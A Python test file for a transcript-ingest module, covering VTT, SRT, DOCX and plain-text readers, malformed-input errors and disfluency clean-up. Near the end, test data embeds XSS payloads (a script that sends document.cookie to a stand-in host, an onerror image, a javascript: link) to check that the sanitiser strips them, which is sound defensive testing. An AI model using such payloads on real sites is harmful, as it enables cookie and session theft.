"""Transcript readers (VTT Zoom and Teams, SRT, DOCX, plain text), their errors, and the
disfluency clean-up."""

from __future__ import annotations

import datetime as dt
import json
from pathlib import Path

import docx
import pytest

from assistant.errors import IngestError
from assistant.ingest.normalize import clean_utterance
from assistant.ingest.transcripts import looks_like_transcript, read_transcript
from tests.conftest import EXAMPLE_DIR, SHARED_DATA

ZOOM = """WEBVTT

NOTE recorded by Zoom

1
00:00:03.200 --> 00:00:12.116
Renée Castillo: Okay, um, we're recording now.

2
00:00:12.116 --> 00:00:15.000
Renée Castillo: Quick reminder how this works.

3
00:00:15.500 --> 00:00:18.000
Hannah Brooks: Hi! I I think we can start.
"""

TEAMS = """WEBVTT

b39cfd4b-8abe-4d78-8520-10116895cea8/17-0
00:00:01.900 --> 00:00:08.683
<v Tomasz Wierzbicki>Okay, hello. It's a small group today.</v>

612b6cd5-2d39-45ab-9ddd-2106dcae6e9f/18-0
00:00:09.475 --> 00:00:10.698
<v Greta Schulz>Hi Tomasz.</v>

612b6cd5-2d39-45ab-9ddd-2106dcae6e9f/18-1
00:00:10.698 --> 00:00:12.000
<v Greta Schulz>Shall we start?</v>
"""

SRT = """1
00:00:02,400 --> 00:00:06,431
Tomasz Wierzbicki: Okay, hi. Let's give people one more minute.

2
00:00:06,569 --> 00:00:07,947
Marco Bellandi: Hello Tomasz.
"""


def write(path: Path, text: str) -> Path:
    path.write_text(text, encoding="utf-8")
    return path


def test_zoom_vtt_cues_of_one_speaker_merge_into_one_turn(tmp_path: Path) -> None:
    t = read_transcript(write(tmp_path / "jam.vtt", ZOOM))
    assert [s.speaker for s in t.segments] == ["Renée Castillo", "Hannah Brooks"]
    first = t.segments[0]
    assert first.text == "Okay, um, we're recording now. Quick reminder how this works."
    assert (first.start_s, first.end_s, first.line) == (3.2, 15.0, 6)


def test_teams_vtt_voice_tags_give_the_speaker(tmp_path: Path) -> None:
    t = read_transcript(write(tmp_path / "teams.vtt", TEAMS))
    assert [(s.speaker, s.text) for s in t.segments] == [
        ("Tomasz Wierzbicki", "Okay, hello. It's a small group today."),
        ("Greta Schulz", "Hi Tomasz. Shall we start?")]
    assert t.segments[1].end_s == 12.0


def test_srt_is_read_with_speakers_and_times(tmp_path: Path) -> None:
    t = read_transcript(write(tmp_path / "oh.srt", SRT))
    assert [s.speaker for s in t.segments] == ["Tomasz Wierzbicki", "Marco Bellandi"]
    assert t.segments[1].start_s == pytest.approx(6.569)


def test_teams_docx_export_gives_title_date_duration_and_turns(tmp_path: Path) -> None:
    d = docx.Document()
    for line in ("Demo day: contract check", "November 12, 2026, 3:00PM", "13m 18s",
                 "Renée Castillo   0:04", "Okay, I think we're live. Note: recording.",
                 "Ben Carter   0:10", "Yep.", "Ben Carter   0:12", "All good."):
        d.add_paragraph(line)
    d.save(str(tmp_path / "demo.docx"))
    t = read_transcript(tmp_path / "demo.docx")
    assert (t.title, t.date, t.start_time, t.duration_s) == (
        "Demo day: contract check", dt.date(2026, 11, 12), "15:00", 798.0)
    assert [(s.speaker, s.text, s.start_s) for s in t.segments] == [
        ("Renée Castillo", "Okay, I think we're live. Note: recording.", 4.0),
        ("Ben Carter", "Yep. All good.", 10.0)]


def test_plain_text_speaker_lines_with_and_without_timestamps(tmp_path: Path) -> None:
    text = ("Weekly jam\n\n[00:00:05] Ana Lima: We start with the import case.\n"
            "[00:01:02] Ben Okafor: It broke on dates.\nIt really did.\n"
            "Ana Lima: Thanks Ben.\n")
    t = read_transcript(write(tmp_path / "jam.txt", text))
    assert t.title == "Weekly jam"
    assert [(s.speaker, s.text, s.start_s) for s in t.segments] == [
        ("Ana Lima", "We start with the import case.", 5.0),
        ("Ben Okafor", "It broke on dates. It really did.", 62.0),
        ("Ana Lima", "Thanks Ben.", None)]


def test_plain_text_in_the_teams_layout(tmp_path: Path) -> None:
    t = read_transcript(EXAMPLE_DIR / "transcripts" / "show-and-tell.source.txt")
    assert t.title.startswith("Demo day") and t.date == dt.date(2026, 11, 12)
    assert t.segments[0].speaker == "Renée Castillo" and t.segments[0].start_s == 4.0
    assert len({s.speaker for s in t.segments}) >= 4


def test_every_example_transcript_is_read() -> None:
    manifest = json.loads((EXAMPLE_DIR / "sessions.json").read_text(encoding="utf-8"))
    for entry in manifest["sessions"]:
        t = read_transcript(EXAMPLE_DIR / entry["file"])
        assert len(t.segments) > 20, entry["file"]
        assert all(s.speaker for s in t.segments), entry["file"]


def test_a_txt_case_is_not_mistaken_for_a_transcript() -> None:
    assert not looks_like_transcript("Problem: our imports break.\nContext: old CRM.\n"
                                     "Team: EMEA\n")
    assert looks_like_transcript("Ana: hi\nBen: hello\nAna: let's start\n")


# ---------------------------------------------------------------- malformed input

def error_of(path: Path) -> IngestError:
    with pytest.raises(IngestError) as info:
        read_transcript(path)
    return info.value


def test_broken_timestamp_names_file_and_line(tmp_path: Path) -> None:
    err = error_of(write(tmp_path / "bad.vtt", ZOOM.replace(
        "00:00:12.116 --> 00:00:15.000", "00:00:05.000 -> 00:00:0x")))
    assert err.line == 10 and "bad.vtt, line 10" in str(err) and "broken cue timing" in str(err)


@pytest.mark.parametrize("tag", ["<v Bo Chen", "<v.loud Bo Chen", "<v Bo Chen <b>ok</b>"])
def test_a_voice_tag_without_its_closing_bracket_is_refused_naming_the_line(
        tmp_path: Path, tag: str) -> None:
    text = ("WEBVTT\n\n00:00:01.000 --> 00:00:05.000\n<v Ana Lima>Hello there.</v>\n\n"
            f"00:00:06.000 --> 00:00:09.000\nSecond line of nothing\n{tag}\n")
    err = error_of(write(tmp_path / "tag.vtt", text))
    assert err.line == 8 and "tag.vtt, line 8" in str(err)
    assert "voice tag" in str(err) and "'<v" in str(err)
    assert err.fix is not None and "<v Name>" in err.fix
    # closed, the same cue is read with its speaker
    t = read_transcript(write(tmp_path / "ok.vtt", text.replace(
        "Second line of nothing\n", "").replace(tag, "<v Bo Chen>Fine.")))
    assert [s.speaker for s in t.segments] == ["Ana Lima", "Bo Chen"]


def test_broken_srt_timestamp_names_the_line(tmp_path: Path) -> None:
    err = error_of(write(tmp_path / "bad.srt", SRT.replace("00:00:07,947", "00:00:0x,947")))
    assert err.line == 6


def test_cue_ending_before_it_starts_is_refused(tmp_path: Path) -> None:
    err = error_of(write(tmp_path / "bad.vtt", ZOOM.replace("00:00:15.500 --> 00:00:18.000",
                                                            "00:00:18.000 --> 00:00:15.500")))
    assert err.line == 14 and "ends before it starts" in str(err)


def test_cues_far_out_of_order_are_refused_but_small_overlaps_pass(tmp_path: Path) -> None:
    overlap = ZOOM.replace("00:00:15.500 --> 00:00:18.000", "00:00:11.000 --> 00:00:18.000")
    assert len(read_transcript(write(tmp_path / "ok.vtt", overlap)).segments) == 2
    err = error_of(write(tmp_path / "bad.vtt", ZOOM.replace("00:00:15.500 --> 00:00:18.000",
                                                            "00:00:00.100 --> 00:00:01.000")))
    assert err.line == 14 and "out of order" in str(err)


def test_empty_transcript_is_refused(tmp_path: Path) -> None:
    assert "empty" in str(error_of(write(tmp_path / "e.vtt", "\n\n")))
    assert "no spoken text" in str(error_of(write(tmp_path / "e2.vtt", "WEBVTT\n\n")))


def test_binary_and_wrong_encoding_are_refused(tmp_path: Path) -> None:
    (tmp_path / "b.srt").write_bytes(b"\x00\x01binary" * 10)
    assert "binary" in str(error_of(tmp_path / "b.srt"))
    (tmp_path / "w.txt").write_bytes("Ana: hi\nBen: Grüße\n".encode("cp1252"))
    err = error_of(tmp_path / "w.txt")
    assert err.line == 2 and "UTF-8" in str(err)


def test_docx_that_is_not_a_zip_is_refused(tmp_path: Path) -> None:
    err = error_of(write(tmp_path / "t.docx", "Ana: hi\n"))
    assert "not a Word document" in str(err) and "t.docx" in str(err)


# ---------------------------------------------------------------- normalisation

@pytest.mark.parametrize(("raw", "clean"), [
    ("Um, I I think {vocalsound} the the rollout , uh , slipped .",
     "I think the rollout slipped."),
    ("So, uh, Greta said she'll be late", "So Greta said she'll be late"),
    ("Okay, I think we're, um, we're recording now.", "Okay, I think we're recording now."),
    ("we'll, we'll do the usual", "We'll do the usual"),
    ("Let me, let me present them", "Let me present them"),
    ("You know, it was fine, you know.", "It was fine."),
    ("I said <i>no</i> [inaudible] right ?", "I said no right?"),
    ("Hmm. That {disfmarker} that {gap} works .", "That works."),
    ("Mm-hmm .", ""),
    ("Um, the export is dd/mm/yyyy, uh, not mm/dd .", "The export is dd/mm/yyyy not mm/dd."),
    # cleaning removes noise, never rewrites a word: no data set's spelling convention
    ("the L_C_D_ screen, like on T_V_s", "The L_C_D_ screen, like on T_V_s"),
    ("set max_retries to 3", "Set max_retries to 3"),
    # a pasted link keeps its words and loses its target; a placeholder keeps its words
    ("I'll send the [runbook](javascript:alert(1)) to {{ team }} by Monday.",
     "I'll send the runbook to team by Monday."),
    ("see [the guide](https://example.org/a_(b)) first", "See the guide first"),
])
def test_clean_utterance_removes_noise_and_keeps_meaning(raw: str, clean: str) -> None:
    assert clean_utterance(raw) == clean


def test_qmsum_markup_is_gone_after_cleaning() -> None:
    path = SHARED_DATA / "qmsum" / "ES2002a.json"
    if not path.exists():
        pytest.skip("QMSum data not available")
    turns = json.loads(path.read_text(encoding="utf-8"))["meeting_transcripts"]
    cleaned = [clean_utterance(t["content"]) for t in turns]
    joined = " ".join(cleaned)
    assert "{" not in joined and " ." not in joined and " ," not in joined
    assert sum(1 for c in cleaned if c) > len(turns) / 2
    assert "remote control" in joined


@pytest.mark.parametrize(("name", "timing"), [
    ("sec61.vtt", "00:00:61.000 --> 00:00:63.000"),
    ("sec61.srt", "00:00:61,000 --> 00:00:63,000"),
    ("min75.vtt", "00:75:01.000 --> 00:75:03.000"),
    ("end99.vtt", "00:00:12.116 --> 00:00:99.000"),
])
def test_impossible_clock_time_is_refused_not_dropped(tmp_path: Path, name: str,
                                                      timing: str) -> None:
    # The WebVTT library silently drops a cue at 00:00:61 (its speaker turn is lost and the
    # neighbours merge); both readers refuse it, naming the line and the fix.
    text = (ZOOM.replace("00:00:12.116 --> 00:00:15.000", timing) if name.endswith(".vtt")
            else SRT.replace("00:00:06,569 --> 00:00:07,947", timing))
    err = error_of(write(tmp_path / name, text))
    assert err.line == (10 if name.endswith(".vtt") else 6)
    assert "must be below 60" in str(err) and name in str(err) and "Fix:" in str(err)


def test_an_hour_long_session_keeps_its_late_cues(tmp_path: Path) -> None:
    late = ZOOM.replace("00:00:15.500 --> 00:00:18.000", "01:59:15.500 --> 01:59:18.000")
    segs = read_transcript(write(tmp_path / "long.vtt", late)).segments
    assert segs[-1].start_s == 7155.5


HOSTILE_LINE = ('We reset the <b>SSO</b> certificate <script>fetch("//x.example/"+document'
                '.cookie)</script> and it <i>worked</i> <img src=x onerror=alert(1)>.')
HOSTILE_SAID = "We reset the SSO certificate and it worked ."


@pytest.mark.parametrize("name, text", [
    ("jam.vtt", f"WEBVTT\n\n00:00:01.000 --> 00:00:04.000\n<v Ana Lima>{HOSTILE_LINE}</v>\n\n"
                "00:00:05.000 --> 00:00:06.000\n<script>alert('only a script')</script>\n\n"
                "00:00:07.000 --> 00:00:09.000\nBen Okafor: &lt;b&gt;Two&lt;/b&gt; &amp; "
                "<c.loud>fine</c>, 2 < 4 <3\n"),
    ("jam.srt", f"1\n00:00:01,000 --> 00:00:04,000\nAna Lima: {HOSTILE_LINE}\n\n"
                "2\n00:00:05,000 --> 00:00:06,000\n<script>alert('only a script')</script>\n\n"
                "3\n00:00:07,000 --> 00:00:09,000\nBen Okafor: Two & <font>fine</font>, "
                "2 < 4 <3\n"),
    ("jam.txt", f"Ana Lima: {HOSTILE_LINE}\n<script>alert('only a script')</script>\n"
                "Ben Okafor: Two & <u>fine</u>, 2 < 4 <3\n"),
])
def test_html_tags_in_a_transcript_are_dropped_and_a_script_is_never_kept_as_speech(
        tmp_path: Path, name: str, text: str) -> None:
    t = read_transcript(write(tmp_path / name, text))
    said = [(s.speaker, s.text) for s in t.segments]
    assert said[0] == ("Ana Lima", HOSTILE_SAID)
    assert said[-1] == ("Ben Okafor", "Two & fine, 2 < 4 <3")  # a "<" opening no tag stays
    assert not any("script" in x or "alert" in x or "cookie" in x for _, x in said)
